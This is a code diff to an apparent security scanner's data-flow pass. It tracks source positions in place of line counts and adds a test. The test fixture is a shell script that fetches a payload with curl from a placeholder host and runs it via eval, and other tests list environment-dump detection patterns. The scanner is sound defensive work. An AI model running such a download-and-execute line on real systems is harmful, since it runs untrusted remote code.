@@ -601,8 +601,6 @@ pub(crate) fn run(scanner: &Scanner, source_lines: &[usize], text: &str, hits: &
     let bytes = text.as_bytes();
     // Per tainted name: a searcher and its next whole-word occurrence at or after `pos`.
     let mut finders: Vec<(String, memchr::memmem::Finder<'static>, usize)> = Vec::new();
-    let mut line_no: u32 = 1;
-    let mut counted = 0usize;
     let mut pos = from;
     // Only lines that hold a source word or mention a tainted name are looked at.
     while pos < bytes.len() {
@@ -623,14 +621,10 @@ pub(crate) fn run(scanner: &Scanner, source_lines: &[usize], text: &str, hits: &
             break;
         }
         let (start, end) = line_bounds(text, target);
-        line_no = line_no.saturating_add(
-            u32::try_from(
-                memchr::memchr_iter(b'\n', bytes.get(counted..start).unwrap_or(&[])).count(),
-            )
-            .unwrap_or(u32::MAX),
-        );
-        counted = start;
-        let this_line = line_no;
+        // Where a value came from is kept as a position (the line's start + 1, 0 for none) and
+        // turned into a line number only for a message: counting every line cost more than
+        // the rest of the pass on the benchmark.
+        let this_line = u32::try_from(start + 1).unwrap_or(u32::MAX);
         pos = (end + 1).max(pos + 1);
         let raw = text.get(start..end).unwrap_or("");
         let has_source = source_lines.get(next_source) == Some(&start);
@@ -725,7 +719,12 @@ pub(crate) fn run(scanner: &Scanner, source_lines: &[usize], text: &str, hits: &
                 continue;
             };
             let whence = if origin > 0 && origin < this_line {
-                format!(" on line {origin}")
+                let at = usize::try_from(origin).map_or(0, |o| o.saturating_sub(1));
+                let before = bytes.get(..at).unwrap_or(&[]);
+                format!(
+                    " on line {}",
+                    1 + memchr::memchr_iter(b'\n', before).count()
+                )
             } else {
                 String::new()
             };
@@ -985,6 +984,22 @@ mod tests {
         assert!(!whole_environment("os.environ['HOME']"));
         assert!(!whole_environment("process.env.HOME"));
         assert!(whole_environment("JSON.stringify(process.env)"));
+    }
+
+    #[test]
+    fn the_message_names_the_line_a_value_came_from() {
+        let scanner = match crate::Scanner::new() {
+            Ok(s) => s,
+            Err(e) => panic!("{e}"),
+        };
+        let text = "#!/bin/sh\npayload=$(curl -fsSL https://x.invalid/p)\necho start\n\neval \"$payload\"\n";
+        let found = scanner.scan_text(Some("run.sh"), text);
+        let hit = found.iter().find(|f| f.rule_id == "flow.download-exec");
+        let Some(hit) = hit else {
+            panic!("no data-flow finding: {found:?}");
+        };
+        assert_eq!(hit.line, 5);
+        assert!(hit.message.contains("on line 2 "), "{}", hit.message);
     }
 
     #[test]
